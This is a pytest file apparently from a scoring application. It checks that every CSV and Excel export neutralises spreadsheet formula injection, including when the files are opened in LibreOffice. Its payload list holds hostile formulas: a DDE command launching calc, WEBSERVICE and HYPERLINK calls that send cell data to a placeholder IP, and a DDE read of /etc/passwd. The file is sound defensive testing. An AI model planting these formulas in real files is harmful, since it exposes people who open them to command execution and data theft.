"""No text of ours is a formula to whoever opens it: hundreds of payloads through every export, opened by LibreOffice."""

from __future__ import annotations

import ast
import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import example, given
from hypothesis import strategies as st

from scoring.errors import Fault
from scoring.register import register_of
from scoring.spreadsheet.neutral import csv_bytes, evaluable, neutral
from scoring.spreadsheet.people_workbooks import PasswordRow, passwords_workbook
from scoring.spreadsheet.ranking import as_csv, as_workbook, groups_table, units_table, write_ranking
from scoring.spreadsheet.results import write_results
from scoring.spreadsheet.template import write_template
from scoring.spreadsheet.workbook import workbook_bytes
from scoring.spreadsheet.worksheet import EarlierMark, Layout, OwnMark, expected_of
from scoring.spreadsheet.worksheet_marked import marked_back
from scoring.spreadsheet.worksheet_reading import read_worksheet
from scoring.spreadsheet.worksheet_writing import worksheet_workbook
from scoring.texts import Lang, Text
from scoring.units import Grouping, Unit
from tests.edition.county import County, standings_of
from tests.spreadsheet.worksheets import CSV_IN, converted, criteria, office, worksheet
from tests.spreadsheet.worksheets import unit as marked_unit

FRONTS = ("", " ", "\t", "\r", "\n", " \t ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060", "\u202e", "'")
BODIES = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://192.0.2.1/"&A2)',
    '=DDE("soffice";"/etc/passwd";"1")',
    "=1+1\n=2+2",
    "=A1;=B1",
    '=1+1",=2+2,"=3+3',
)
PAYLOADS = tuple(front + body for front in FRONTS for body in BODIES)
OTHERS = (
    "a,=1+1", 'a",=1+1,"', "a\n=1+1", "a;=1+1", "a\t=1+1", "http://192.0.2.1/", "mailto:a@b", "{=1+1}",
    "1E5", "007", "2026-01-01", "TRUE",
)  # fmt: skip
LEAST = 120

RULES = """
id: s
version: "1"
title: {zh: 标准}
criteria:
  - {id: impact, kind: judged, full_marks: 10, title: {zh: '%(zh)s', en: '%(en)s'}}
gates: [{id: weak, highest_stars: 1, title: {zh: '%(zh)s', en: '%(en)s'}}]
cut_points: [{stars: 2, at_least: 50}, {stars: 1, at_least: 0}]
target: {stars: 2, share: 60%%}
"""


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= LEAST
    assert len(set(PAYLOADS)) == len(PAYLOADS)


# The rule by itself.


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_gets_an_apostrophe_in_front_and_nothing_else(payload):
    assert neutral(payload) == (payload if payload.startswith("'") else f"'{payload}")


@pytest.mark.parametrize(
    "text", ["", " ", "5", "张三", "a=b", "1-2", "'=1", "a@b", "5+", "（=1）", "−5", "《=》", "\u200b"]
)
def test_what_is_no_formula_stays_as_it_is(text):
    assert neutral(text) == text


@given(st.text(max_size=8))
@example("\x00=1")
@example("\x1b\t+1")
@example("\u2066=1")
@example("﹦1")
def test_whatever_shows_first_decides(text):
    shown = text.lstrip("".join(map(chr, range(33))) + "\x7f\x85\xa0\u3000\ufeff\u200b\u2060")
    if shown[:1] in tuple("=+-@＝＋－＠"):
        assert evaluable(text)
    if text and text[0].isalnum():
        assert not evaluable(text)


def test_numbers_typed_as_numbers_are_left_alone():
    assert csv_bytes([[-5, None, "-5"]]).decode("utf-8-sig") == "-5,,'-5\r\n"


# Every export there is.


def hostile() -> County:
    """A county whose codes, names, townships, departments, domains and evaluators are payloads."""
    quoted = {lang: word.replace("'", "''") for lang, word in (("zh", "=1+1"), ("en", "@SUM(1,1)"))}
    units, marks = {}, {}
    for place, payload in enumerate((*PAYLOADS, *OTHERS)):
        unit = Unit(
            code=payload,
            name=payload,
            domain=payload if place % 2 else "rural",
            township=payload,
            department=payload if place % 3 else None,
            gates=("weak",) if place % 5 == 0 else (),
        )
        units[payload] = unit
        marks[payload, "impact", "county", payload or "甲"] = str(place % 11)
    return County(sets=(RULES % quoted,), units=units, marks=marks, excuses=())


@pytest.fixture(scope="module")
def exports(tmp_path_factory) -> dict[str, bytes]:
    """Every file we write, by name."""
    folder = tmp_path_factory.mktemp("exports")
    county, found = hostile(), {}
    edition = county.edition()
    register = register_of(edition)
    kinds = (Grouping.TOWNSHIP, Grouping.DEPARTMENT, Grouping.DOMAIN)
    for lang in Lang:
        tables = {"units": units_table(register, register.entries, lang)}
        if lang is Lang.ZH:
            tables |= {
                kind.value: groups_table(register, kind, register.groups[kind], lang) for kind in kinds
            }
        for name, table in tables.items():
            found[f"{name}-{lang}.csv"] = as_csv(table)
            found[f"{name}-{lang}.xlsx"] = as_workbook(table)
    write_ranking(edition, folder / "ranking.csv", Lang.ZH)
    write_results(standings_of(county.inputs()), folder / "results.xlsx", Lang.ZH)
    (own, *_), units = {id(each): each for each in county.inputs().sets}.values(), county.inputs().units
    write_template(own, units, folder / "template.xlsx", Lang.ZH, stage="county", evaluator=PAYLOADS[0])
    for path in folder.iterdir():
        found[path.name] = path.read_bytes()
    found |= worksheets(folder)
    rows = [
        PasswordRow(login=one, name=one, password=one, until=datetime(2026, 1, 1, tzinfo=UTC))
        for one in PAYLOADS
    ]
    found["passwords.xlsx"] = passwords_workbook(rows, Lang.ZH)
    return found


def worksheets(folder: Path) -> dict[str, bytes]:
    found = {}
    by = criteria(title={"zh": "=1+1", "en": "@x"})
    for layout in Layout:
        payloads = PAYLOADS if layout is Layout.BY_UNIT else PAYLOADS[::4]
        units = [
            replace(
                marked_unit(
                    f"{payload}{place}",
                    {"judged": OwnMark(mark=payload, comment=payload, revision=1)},
                    by=by,
                    earlier={"self": {"judged": EarlierMark(mark=payload, comment=payload)}},
                ),
                name=payload,
            )
            for place, payload in enumerate(payloads)
        ]
        sheet = worksheet(*units, holder_name=PAYLOADS[0], county=PAYLOADS[1])
        content = found[f"worksheet-{layout}.xlsx"] = worksheet_workbook(sheet, layout, Lang.ZH)
        path = folder / "back.xlsx"
        path.write_bytes(content)
        filled = read_worksheet(path, expected_of(sheet))
        told = [
            Fault(place=fault.place, sentence=Text(payload, payload))
            for fault, payload in zip(filled.faults, payloads, strict=False)
        ]
        assert len(told) > len(payloads) // 2
        found[f"back-{layout}.xlsx"] = marked_back(filled, told, Lang.EN)
        path.unlink()
    return found


def as_seen(text: object) -> str:
    """A text as the eye has it: line ends are one, and what shows nothing counts for nothing."""
    return "".join(
        each
        for each in str(text)
        if each.isprintable() and not each.isspace() and each not in "\u200b\ufeff\u2060\u202e"
    )


def formulas(content: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        f"{page.title}!{cell.coordinate}: {cell.value}"
        for page in book
        for row in page.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(content: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=True)
    return {
        as_seen(cell)
        for page in book
        for row in page.iter_rows(values_only=True)
        for cell in row
        if cell is not None
    }


def test_in_csv_every_field_is_neutral_and_the_same_to_the_eye(exports):
    """Without an office program: parsed as CSV, no field begins with a sign, and every payload is there."""
    for name, content in exports.items():
        if name.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
            assert len({len(row) for row in rows}) == 1
            fields = {field for row in rows for field in row}
            assert not [field for field in fields if evaluable(field)]
            assert {neutral(one) for one in PAYLOADS if name.startswith(("units", "ranking"))} <= fields


def test_in_workbooks_every_text_is_a_text(exports):
    for name, content in exports.items():
        if name.endswith(".xlsx"):
            assert not formulas(content), name
            page = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
            marked = [
                cell.quotePrefix
                for row in page.iter_rows()
                for cell in row
                if cell.data_type == "s" and evaluable(cell.value)
            ]
            assert all(marked), name


@pytest.mark.skipif(office() is None, reason="LOUD: there is no LibreOffice, so nobody opened the exports")
def test_nothing_is_evaluated_when_libreoffice_opens_it(exports, tmp_path):
    """All files at once, and two of a careless writer, which must be seen to be evaluated: the control."""
    careless = {"careless.csv": careless_csv(), "careless.xlsx": careless_workbook()}
    paths = []
    for name, content in (exports | careless).items():
        path = tmp_path / f"{name.replace('.', '-')}.{name.rpartition('.')[2]}"
        path.write_bytes(content)
        paths.append(path)
    opened = {}
    for ending, options in ((".csv", [CSV_IN]), (".xlsx", [])):
        own = [path for path in paths if path.suffix == ending]
        saved = converted(own, "xlsx:Calc MS Excel 2007 XML", tmp_path, *options)
        opened |= {path.stem: one.read_bytes() for path, one in zip(own, saved, strict=True)}
    assert formulas(opened.pop("careless-csv"))
    assert formulas(opened.pop("careless-xlsx"))
    assert {name: found for name, content in opened.items() if (found := formulas(content))} == {}
    for name in WITH_ALL:
        # LibreOffice takes the apostrophe off again, Excel shows it.
        front = "'" if name.endswith("csv") else ""
        found = {text.lstrip(front) if front else text for text in texts(opened[name])}
        seen = {as_seen(payload).lstrip(front) if front else as_seen(payload) for payload in PAYLOADS}
        assert sorted(seen - found) == [], name


WITH_ALL = (
    "units-zh-csv", "units-en-xlsx", "ranking-csv", "results-xlsx", "template-xlsx",
    "worksheet-by_unit-xlsx", "back-by_unit-xlsx", "passwords-xlsx",
)  # fmt: skip
"""Exports in which every payload must be seen; in the others there is no room for all of them."""


def careless_csv() -> bytes:
    """What `csv.writer` alone makes of the payloads."""
    text = io.StringIO(newline="")
    csv.writer(text).writerows([[payload] for payload in PAYLOADS])
    return text.getvalue().encode("utf-8-sig")


def careless_workbook() -> bytes:
    """What xlsxwriter makes of the payloads when nobody tells it otherwise."""
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"in_memory": True}) as book:
        page = book.add_worksheet()
        for row, payload in enumerate(PAYLOADS):
            if payload.startswith("=") and "|" not in payload and ";" not in payload and '"' not in payload:
                page.write(row, 0, payload)
    return stream.getvalue()


def test_the_careless_are_caught_without_an_office_program_too():
    rows = list(csv.reader(io.StringIO(careless_csv().decode("utf-8-sig"), newline="")))
    assert [field for row in rows for field in row if evaluable(field)]
    assert formulas(careless_workbook())


def test_our_workbooks_refuse_formulas():
    """Not by habit but by the class: whoever writes one into an export fails at once."""
    with pytest.raises(AssertionError, match="values, not formulas"), workbook_bytes() as (workbook, _):
        workbook.add_worksheet().write_formula(0, 0, "=1+1")


def test_a_text_written_in_a_plain_way_is_neutral_too():
    """`write` guesses what a cell is; in our workbooks a text stays one."""
    with workbook_bytes() as (workbook, stream):
        page = workbook.add_worksheet()
        bold = workbook.add_format({"bold": True, "locked": False})
        for row, payload in enumerate((*PAYLOADS, *OTHERS)):
            page.write(row, 0, payload, bold)
    book = openpyxl.load_workbook(io.BytesIO(stream.getvalue()))
    cells = [row[0] for row in book.worksheets[0].iter_rows()]
    assert {(cell.data_type, cell.hyperlink, cell.font.bold, cell.protection.locked) for cell in cells} == {
        ("s", None, True, False)
    }
    assert [cell.quotePrefix for cell in cells] == [evaluable(text) for text in (*PAYLOADS, *OTHERS)]


ALLOWED = {
    "csv": {"scoring/spreadsheet/neutral.py", "scoring/spreadsheet/grids.py", "scoring/workflow/demo_files.py", "scoring/workflow/demo/seeds.py"},
    "xlsxwriter": {"scoring/spreadsheet/neutral.py", "scoring/spreadsheet/workbook.py"},
}  # fmt: skip
"""Who may import what writes cells: the one writer of each kind, readers, and the demo's own seed files."""


def imports(tree: ast.AST) -> set[str]:
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found |= {alias.name.partition(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            found.add(node.module.partition(".")[0])
    return found


def careless_modules(sources: dict[str, str]) -> set[str]:
    """The modules that write cells past the one writer."""
    return {
        name
        for name, source in sources.items()
        for word, allowed in ALLOWED.items()
        if word in imports(ast.parse(source)) and name not in allowed
    }


def test_nobody_writes_cells_past_the_one_writer():
    """A new export that opens csv or xlsxwriter itself is noticed here, before any payload reaches a reader."""
    root = Path(__file__).parents[2]
    sources = {
        path.relative_to(root).as_posix(): path.read_text("utf-8")
        for package in ("scoring", "web")
        for path in (root / package).rglob("*.py")
    }
    assert careless_modules(sources) == set()
    assert careless_modules({"web/pages/new.py": "import csv"}) == {"web/pages/new.py"}
    assert careless_modules({"scoring/spreadsheet/new.py": "from xlsxwriter import Workbook"})
